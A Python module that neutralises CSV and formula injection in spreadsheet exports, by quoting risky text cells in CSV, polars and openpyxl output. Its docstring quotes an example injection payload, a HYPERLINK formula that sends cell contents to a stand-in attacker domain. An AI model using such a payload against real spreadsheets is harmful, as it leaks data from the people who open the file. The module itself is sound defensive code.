"""Spreadsheet files out of the platform: every CSV and Excel export is written here.

A spreadsheet program that opens a CSV reads a cell beginning with ``=``, ``+``, ``-`` or
``@`` as a formula, and a tab or carriage return at the start of a cell can shift what
follows into a cell of its own; a pushed value such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` then runs on the reader's machine
(CSV or formula injection). So, following OWASP's guidance on CSV injection:

- a CSV text cell that begins with one of those characters gets a single quote in front,
  which the spreadsheet shows as text. So do a cell that begins with a quote (then the
  quote is removed again exactly: ``restore_cell``, used when a downloaded file of
  rejected rows comes back fixed) and a cell whose first character after blanks is a
  formula sign (some programs trim leading blanks before looking for a formula);
- an Excel cell holding text is written as a string cell marked "quote prefix", never as
  a formula (openpyxl makes any text beginning with ``=`` a formula unless told), with the
  text exactly as it was;
- numbers stay numbers: only text is touched, and text that is a plain decimal number
  (``-100.00``, as amounts are stored) cannot hold a formula and is left as it is.

``defusedcsv`` (PyPI) was considered: it does not cover tab and carriage return, rewrites
``|`` inside cells, has no inverse and nothing for Excel files, so the few lines here do
the job instead. Nothing else in the package may call ``csv.writer``, ``DictWriter`` or
openpyxl's ``Workbook`` to write a file that leaves the platform
(``tests/core/test_exports.py`` checks the source for them).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import polars as pl

BOM = "\ufeff"  # Excel opens UTF-8 CSV with Chinese correctly only with a byte order mark
QUOTE = "'"
# The first characters that make a cell a formula (or split it), and the quote itself so
# that quoting can be undone exactly.
FORMULA_LEADS = frozenset("=+-@\t\r" + QUOTE)
# A cell whose first character after blanks is a formula sign: some spreadsheet programs
# trim the blanks first. The blanks are Unicode's white space, spelled out so that Python
# and polars (``write_frame_csv``) read the same class.
_BLANK = "[ \t\n\x0b\x0c\r\x85\xa0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]"
_BLANKS_THEN_FORMULA = re.compile(_BLANK + "+[=+\\-@]")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
# The same rule as regular expressions over a polars text column.
_LEAD_PATTERN = "^(?:[=+\\-@\t\r']|" + _BLANK + "+[=+\\-@])"
_PLAIN_NUMBER_PATTERN = r"^-?[0-9]+(?:\.[0-9]+)?$"
# Characters an .xlsx file cannot hold (XML 1.0 forbids most control characters).
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def needs_quote(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (or ``text`` begins with a
    quote, which ``restore_cell`` would otherwise take away)."""
    if not text:
        return False
    if text[0] in FORMULA_LEADS:
        return text[0] != "-" or not _PLAIN_NUMBER.fullmatch(text)
    return _BLANKS_THEN_FORMULA.match(text) is not None


def safe_cell(value: Any) -> Any:
    """A CSV cell as it may be written: text a spreadsheet would take for a formula with a
    quote in front, ``None`` as an empty cell, anything else (numbers, dates) as it is."""
    if value is None:
        return ""
    if isinstance(value, str) and needs_quote(value):
        return QUOTE + value
    return value


def restore_cell(value: Any) -> Any:
    """The cell ``safe_cell`` was given, from what it wrote (a fixed file coming back)."""
    if isinstance(value, str) and value[:1] == QUOTE and needs_quote(value[1:]):
        return value[1:]
    return value


def csv_row(values: Iterable[Any]) -> str:
    """One CSV line (with its line end) of neutralized cells."""
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell(v) for v in values])
    return buffer.getvalue()


def csv_lines(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """A CSV file for spreadsheets, piece by piece (to stream): a byte order mark and the
    header, then one line per row."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write(BOM)
    writer.writerow([safe_cell(v) for v in header])
    yield buffer.getvalue()
    for row in rows:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow([safe_cell(v) for v in row])
        yield buffer.getvalue()


def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV file for spreadsheets (byte order mark, header, rows) as one string."""
    return "".join(csv_lines(header, rows))


def write_csv(path: Path, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> Path:
    """A CSV file (UTF-8, no byte order mark: read by tools as much as by people) at
    ``path``, cells neutralized as in every export."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([safe_cell(v) for v in header])
        writer.writerows([safe_cell(v) for v in row] for row in rows)
    return path


def write_frame_csv(frame: pl.DataFrame, path: Path) -> Path:
    """A polars frame as CSV at ``path``, its text columns neutralized as ``safe_cell``
    does (in the frame's own engine: tables of every enterprise are large)."""
    import polars as pl

    quoted = []
    for name, dtype in frame.schema.items():
        if dtype == pl.String:
            column = pl.col(name)
            risky = column.str.contains(_LEAD_PATTERN) & ~column.str.contains(_PLAIN_NUMBER_PATTERN)
            quoted.append(pl.when(risky).then(pl.lit(QUOTE) + column).otherwise(column).alias(name))
    (frame.with_columns(quoted) if quoted else frame).write_csv(path)
    return path


def _xlsx_text(text: str) -> str:
    # XML cannot carry these control characters; openpyxl would refuse the whole file.
    return _NOT_IN_XLSX.sub("\ufffd", text)


def xlsx_bytes(
    title: str,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    number_formats: Mapping[int, str] | None = None,
) -> bytes:
    """A workbook of one sheet: text in string cells marked as text (never a formula, the
    text as it was), numbers and dates as such; ``number_formats`` maps a column index to
    the number format of its numbers."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    formats = number_formats or {}
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)

    def cells(values: Iterable[Any]) -> list[Any]:
        out = []
        for index, value in enumerate(values):
            if isinstance(value, str):
                cell = WriteOnlyCell(sheet, value=_xlsx_text(value))
                cell.data_type = "s"  # openpyxl took text beginning with "=" for a formula
                cell.quotePrefix = True  # stays text when someone edits it in Excel
            else:
                cell = WriteOnlyCell(sheet, value=value)
                if index in formats and isinstance(value, Decimal | int | float):
                    cell.number_format = formats[index]
            out.append(cell)
        return out

    sheet.append(cells(header))
    for row in rows:
        sheet.append(cells(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
